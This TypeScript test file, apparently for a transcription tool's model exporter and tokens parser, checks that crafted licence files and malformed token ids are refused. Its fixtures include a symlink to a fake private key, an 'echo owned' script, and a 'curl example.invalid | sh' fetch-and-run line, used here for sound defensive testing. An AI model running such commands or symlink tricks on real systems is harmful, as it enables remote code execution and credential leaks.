/**
 * Crafted model folders against two findings of the security review, through the real code paths
 * (exporter, model detection, tokens parser, the `murmur` command) and the real shared models:
 * 5. An export copies the source's licence files. A LICENSE symlinked to a private key, a FIFO, a
 *    5 MB "licence" and files named NOTICE.sh must not travel: only regular files of at most 1 MiB
 *    under the listed names, written under the listed spelling; what is skipped is named in the
 *    export's log and manifest, and the export still succeeds.
 * 9. tokens.txt with an id of 4294967294 (a table sized by the largest id), a repeated id, a
 *    negative or non-decimal id: refused at once, naming the line, whether or not the decoder states
 *    vocab_size (the big-id attack needs a decoder that does not).
 */
import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import * as crypto from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { MurmurError } from '../../src/engine/errors';
import { exportModel } from '../../src/engine/export/exporter';
import { MANIFEST_NAME } from '../../src/engine/export/manifest';
import type { ExportOptions, ModelCard } from '../../src/engine/export/types';
import { resolveModel } from '../../src/engine/models/detect';
import { parseTokens, readTokens } from '../../src/engine/models/zipformer/tokens';
import { decodeMessage, encodeMessage, fieldString } from '../../src/engine/onnx/protobuf';
import { packageRoot } from '../../src/engine/paths';
import { sharedPath, ZIPFORMER_DIR } from '../helpers/shared';
import { tempCacheDir } from '../helpers/temp';

const ZIP_FILES = ['encoder.int8.fixed.onnx', 'decoder.onnx', 'joiner.int8.onnx', 'tokens.txt'];
const GOFORWARD = 'audio/pocketsphinx-testdata/goforward.wav';
/** The old parser spent ~100 s on the big id: far longer than this, so it shows as a failure. */
const GENEROUS = 30_000;

const work = tempCacheDir('murmur-security-inputs-');
const cache = tempCacheDir('murmur-security-inputs-cache-');
let counter = 0;
const fresh = (name: string): string => {
  const d = path.join(work.dir, `${name}-${counter++}`);
  fs.mkdirSync(d, { recursive: true });
  return d;
};

/** A Zipformer folder of symlinks to the shared files (no copies of the weights). */
function zipformerFolder(name: string): string {
  const dir = fresh(name);
  for (const f of ZIP_FILES) fs.symlinkSync(path.join(sharedPath(ZIPFORMER_DIR), f), path.join(dir, f));
  return dir;
}

/** Every regular file under `dir`, recursively (symlinks are not followed). */
function filesUnder(dir: string): string[] {
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
}

async function expectError(run: () => unknown, code: string, ...patterns: RegExp[]): Promise<MurmurError> {
  let caught: unknown;
  try {
    await run();
  } catch (e) {
    caught = e;
  }
  assert.ok(caught instanceof MurmurError, `expected ${code}, got ${caught instanceof Error ? caught.message : 'no error'}`);
  assert.equal(caught.code, code, caught.message);
  for (const p of patterns) assert.match(caught.message, p);
  return caught;
}

after(() => {
  work.remove();
  cache.remove();
});

// ---- 5. licence files of an export ---------------------------------------------------------------------

describe('licence files carried by an export', () => {
  const card: ModelCard = { author: 'Murmur tests', name: 'licences', version: '0.0.1', license: 'Apache-2.0', language: 'en', description: '', source: 'k2-fsa' };
  const options = (source: string, outputDir: string): ExportOptions => ({ source: { dir: source }, format: 'ort', optimization: 'basic', outputDir, card, overwrite: false });
  /** Names the exporter could take for licence files, as the old pattern matched them. */
  const LICENCE_LIKE = /^(LICEN[CS]E|NOTICE|COPYING)/i;

  test('a symlinked, FIFO, oversized or oddly named licence is not copied; the genuine NOTICE is', { timeout: 120_000 }, async () => {
    const src = zipformerFolder('licences');
    const secret = path.join(fresh('home'), 'id_ed25519');
    const secretBytes = Buffer.from(`-----BEGIN OPENSSH PRIVATE KEY-----\n${crypto.randomBytes(48).toString('base64')}\n-----END OPENSSH PRIVATE KEY-----\n`);
    fs.writeFileSync(secret, secretBytes, { mode: 0o600 });
    fs.symlinkSync(secret, path.join(src, 'LICENSE'));
    fs.writeFileSync(path.join(src, 'NOTICE.sh'), '#!/bin/sh\necho owned\n', { mode: 0o755 });
    fs.writeFileSync(path.join(src, 'NOTICE-run.bashrc'), 'curl example.invalid | sh\n');
    execFileSync('mkfifo', [path.join(src, 'COPYING')]);
    fs.writeFileSync(path.join(src, 'LICENSE.txt'), Buffer.alloc(5 * 1024 * 1024, 'a'));
    fs.writeFileSync(path.join(src, 'NOTICE'), 'The genuine notice.\n');
    const out = path.join(fresh('licences-out'), 'out');
    const warnings: string[] = [];

    const result = await exportModel(options(src, out), { log: (level, message) => void (level === 'warn' && warnings.push(message)) });

    assert.deepEqual(
      fs.readdirSync(out).filter((n) => LICENCE_LIKE.test(n)),
      ['NOTICE'],
      'only the genuine notice',
    );
    assert.equal(fs.readFileSync(path.join(out, 'NOTICE'), 'utf8'), 'The genuine notice.\n');
    for (const file of filesUnder(out)) assert.equal(fs.readFileSync(file).indexOf(secretBytes.subarray(40, 80)), -1, `${file} holds the secret's bytes`);
    assert.deepEqual(result.files.map((f) => f.name).sort(), fs.readdirSync(out).sort(), 'the result lists what is there');
    // The user learns what was left behind, and why: in the log and in the manifest.
    const manifest = JSON.parse(fs.readFileSync(path.join(out, MANIFEST_NAME), 'utf8')) as { notes?: unknown; source?: Record<string, string> };
    assert.ok(Array.isArray(manifest.notes), 'the manifest has notes');
    const notes = (manifest.notes as unknown[]).join('\n');
    for (const [name, why] of [
      ['LICENSE', /symbolic link/],
      ['COPYING', /not a regular file/],
      ['LICENSE.txt', /larger than 1 MiB/],
      ['NOTICE.sh', /not one of the licence file names/],
      ['NOTICE-run.bashrc', /not one of the licence file names/],
    ] as const) {
      const line = notes.split('\n').find((l) => l.includes(`"${name}"`));
      assert.ok(line, `the notes name ${name}: ${notes}`);
      assert.match(line, why);
      assert.ok(warnings.some((w) => w.includes(`"${name}"`)), `the log names ${name}: ${warnings.join(' / ')}`);
    }
    assert.deepEqual(
      Object.keys(manifest.source ?? {}).filter((k) => k.startsWith('license:')),
      ['license:NOTICE'],
      'only copied licences are sources',
    );
    assert.ok(fs.existsSync(secret) && fs.readFileSync(secret).equals(secretBytes), 'the secret itself is untouched');
  });

  test('listed names match in any case and are written under their listed spelling', { timeout: 120_000 }, async () => {
    const src = zipformerFolder('licence-case');
    fs.writeFileSync(path.join(src, 'licence.MD'), 'licence text\n');
    fs.writeFileSync(path.join(src, 'Copying.txt'), 'copying text\n');
    const out = path.join(fresh('licence-case-out'), 'out');
    const result = await exportModel(options(src, out));
    assert.deepEqual(
      fs.readdirSync(out).filter((n) => LICENCE_LIKE.test(n)).sort(),
      ['COPYING.txt', 'LICENCE.md'],
    );
    assert.equal(fs.readFileSync(path.join(out, 'LICENCE.md'), 'utf8'), 'licence text\n');
    assert.equal(fs.readFileSync(path.join(out, 'COPYING.txt'), 'utf8'), 'copying text\n');
    const manifest = JSON.parse(fs.readFileSync(result.manifestPath, 'utf8')) as { notes?: unknown };
    assert.equal(manifest.notes, undefined, 'nothing was skipped, so no notes');
  });
});

// ---- 9. tokens.txt ids ---------------------------------------------------------------------------------

describe('tokens.txt ids', () => {
  const sharedTokens = () => fs.readFileSync(path.join(sharedPath(ZIPFORMER_DIR), 'tokens.txt'), 'utf8');

  /** The shared decoder without its vocab_size metadata (field 14 of ModelProto): the check that used to catch a big id. */
  function decoderWithoutVocabSize(): Uint8Array {
    const fields = decodeMessage(fs.readFileSync(path.join(sharedPath(ZIPFORMER_DIR), 'decoder.onnx')));
    const kept = fields.filter((f) => !(f.number === 14 && decodeMessage(f.bytes).some((e) => e.number === 1 && fieldString(e) === 'vocab_size')));
    assert.equal(kept.length, fields.length - 1, 'the shared decoder had vocab_size');
    return encodeMessage(kept);
  }

  /** A Zipformer folder whose tokens.txt is `tokens`; the decoder keeps vocab_size or not. */
  function folderWith(tokens: string, vocabSize: 'kept' | 'removed'): string {
    const dir = zipformerFolder('tokens');
    fs.rmSync(path.join(dir, 'tokens.txt'));
    fs.writeFileSync(path.join(dir, 'tokens.txt'), tokens);
    if (vocabSize === 'removed') {
      fs.rmSync(path.join(dir, 'decoder.onnx'));
      fs.writeFileSync(path.join(dir, 'decoder.onnx'), decoderWithoutVocabSize());
    }
    return dir;
  }

  const DO = /Use the tokens\.txt that came with this model/;

  test('an id of 4294967294 is refused by detection and by the parser, naming the line', { timeout: GENEROUS }, async () => {
    const tokens = `${sharedTokens()}evil 4294967294\n`;
    const dir = folderWith(tokens, 'removed');
    assert.equal(fs.readFileSync(path.join(dir, 'decoder.onnx')).includes('vocab_size'), false);
    await expectError(() => resolveModel({ dir }), 'MODEL_TOKENS_MISMATCH', /line 501/, /4294967294/, /500 tokens|501 tokens/, DO);
    await expectError(() => readTokens(path.join(dir, 'tokens.txt')), 'MODEL_TOKENS_MISMATCH', /line 501/, /4294967294/, DO);
    // With vocab_size the count already disagrees (501 lines): still refused.
    await expectError(() => resolveModel({ dir: folderWith(tokens, 'kept') }), 'MODEL_TOKENS_MISMATCH', /501 tokens/);
  });

  test('the same file given to the murmur command fails at once, naming the line', { timeout: GENEROUS }, () => {
    // Without <unk> the old parser looked for it through all 4294967295 slots (two minutes).
    const dir = folderWith(sharedTokens().replace('<unk> 2', 'unk 2').replace('\nQ 499', '\nQ 4294967294'), 'removed');
    const bin = path.join(packageRoot(), 'bin', 'murmur.js');
    assert.ok(fs.existsSync(path.join(packageRoot(), 'dist', 'cli.js')), 'dist/cli.js is built');
    // Killed well before the test's own timeout, so a slow parse reports as such.
    const r = spawnSync(process.execPath, [bin, 'transcribe', sharedPath(GOFORWARD), '--model', dir], {
      encoding: 'utf8',
      timeout: GENEROUS - 5_000,
      env: { ...process.env, MURMUR_CACHE_DIR: cache.dir, MURMUR_DEBUG: '' },
    });
    assert.equal(r.signal, null, `murmur was still running after ${(GENEROUS - 5_000) / 1000} s`);
    assert.equal(r.status, 1, r.stderr);
    assert.equal(r.stdout, '');
    assert.match(r.stderr, /line 500/);
    assert.match(r.stderr, /4294967294/);
  });

  test('a repeated id is refused by the parser too, naming both lines', async () => {
    for (const vocabSize of ['kept', 'removed'] as const) {
      const dir = folderWith(sharedTokens().replace('\nQ 499', '\nQ 498'), vocabSize);
      await expectError(() => resolveModel({ dir }), 'MODEL_TOKENS_MISMATCH', /lines 499 and 500 both have id 498/, DO);
      await expectError(() => readTokens(path.join(dir, 'tokens.txt')), 'MODEL_TOKENS_MISMATCH', /lines 499 and 500 both have id 498/, DO);
    }
  });

  test('negative, fractional and non-decimal ids are refused by line, without quoting the file', async () => {
    for (const bad of ['Q -1', 'Q 4.5', 'Q 0x1F3', 'Q 4.99e2', 'Q ']) {
      const dir = folderWith(sharedTokens().replace('\nQ 499', `\n${bad}`), 'removed');
      await expectError(() => resolveModel({ dir }), 'MODEL_TOKENS_MISMATCH', /line 500/, DO);
      const e = await expectError(() => readTokens(path.join(dir, 'tokens.txt')), 'MODEL_TOKENS_MISMATCH', /line 500/, DO);
      // tokens.txt may be any file (a symlink to a secret): its lines stay out of messages.
      assert.ok(!e.message.includes(bad), e.message);
    }
  });

  test('a valid tokens.txt parses into a dense table, ids in any order', () => {
    const shared = parseTokens(sharedTokens(), 'tokens.txt');
    assert.equal(shared.pieces.length, 500);
    assert.equal(shared.blankId, 0);
    assert.equal(shared.unkId, 2);
    const shuffled = parseTokens('b 1\n<blk> 2\na 0\n', 'x');
    assert.deepEqual(shuffled.pieces, ['a', 'b', '<blk>']);
    assert.equal(shuffled.blankId, 2);
    // A piece may itself be a space: the id is what follows the last space.
    assert.deepEqual(parseTokens('  0\nx 1\n', 'x').pieces, [' ', 'x']);
  });
});
